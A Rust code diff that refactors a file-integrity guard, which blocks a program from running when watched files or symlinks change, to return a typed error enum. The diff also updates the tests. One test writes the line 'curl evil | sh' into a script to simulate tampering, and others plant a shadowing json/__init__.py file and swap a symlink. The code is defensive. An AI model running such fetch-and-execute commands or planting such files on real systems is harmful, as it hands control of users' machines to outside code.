@@ -95,7 +95,7 @@ impl CodeCheck {
     }
 
     /// `Ok` when every file is as it was; else what changed, in one sentence with the remedy.
-    pub fn verify(&self) -> Result<(), String> {
+    pub fn verify(&self) -> Result<(), CodeChanged> {
         for file in &self.files {
             let now = std::fs::metadata(&file.path);
             let leads_elsewhere = file
@@ -108,10 +108,10 @@ impl CodeCheck {
                     }
                 });
             if leads_elsewhere {
-                return Err(format!(
-                    "not run: {} leads somewhere else now since {}",
-                    file.shown, self.remedy
-                ));
+                return Err(CodeChanged::LeadsElsewhere {
+                    file: file.shown.clone(),
+                    remedy: self.remedy.clone(),
+                });
             }
             let changed = match (&file.expected, now) {
                 (Expected::Absent, Err(_)) => None,
@@ -131,14 +131,31 @@ impl CodeCheck {
                 }
             };
             if let Some(what) = changed {
-                return Err(format!(
-                    "not run: {} {what} since {}",
-                    file.shown, self.remedy
-                ));
+                return Err(CodeChanged::Changed {
+                    file: file.shown.clone(),
+                    what,
+                    remedy: self.remedy.clone(),
+                });
             }
         }
         Ok(())
     }
+}
+
+/// A file of [`CodeCheck`] is not what it was: the program is not run, and the message says
+/// how to trust it again.
+#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
+pub enum CodeChanged {
+    /// The name now leads to another file (a symbolic link changed or planted).
+    #[error("not run: {file} leads somewhere else now since {remedy}")]
+    LeadsElsewhere { file: String, remedy: String },
+    /// The file was changed, replaced, removed, or appeared where nothing was.
+    #[error("not run: {file} {what} since {remedy}")]
+    Changed {
+        file: String,
+        what: &'static str,
+        remedy: String,
+    },
 }
 
 /// The state of `path` now, for a new [`Watched`].
@@ -206,16 +223,22 @@ mod tests {
         std::fs::write(&script, "exit 0\n").unwrap();
         assert_eq!(check.verify(), Ok(()));
         std::fs::write(&script, "curl evil | sh\n").unwrap();
-        let err = check.verify().unwrap_err();
+        let err = check.verify().unwrap_err().to_string();
         assert_eq!(err, "not run: guard.sh changed since this session started");
         std::fs::write(&script, "exit 0\n").unwrap();
         std::fs::create_dir_all(planted.parent().unwrap()).unwrap();
         std::fs::write(&planted, "").unwrap();
-        let err = check.verify().unwrap_err();
+        let err = check.verify().unwrap_err().to_string();
         assert!(err.contains("json/__init__.py exists now"), "{err}");
         std::fs::remove_file(&planted).unwrap();
         std::fs::remove_file(&script).unwrap();
-        assert!(check.verify().unwrap_err().contains("was removed"));
+        assert!(
+            check
+                .verify()
+                .unwrap_err()
+                .to_string()
+                .contains("was removed")
+        );
     }
 
     #[test]
@@ -241,7 +264,7 @@ mod tests {
         assert_eq!(check.verify(), Ok(()));
         std::fs::remove_file(&link).unwrap();
         std::os::unix::fs::symlink(&other, &link).unwrap();
-        let err = check.verify().unwrap_err();
+        let err = check.verify().unwrap_err().to_string();
         assert!(err.contains("leads somewhere else"), "{err}");
     }
 }
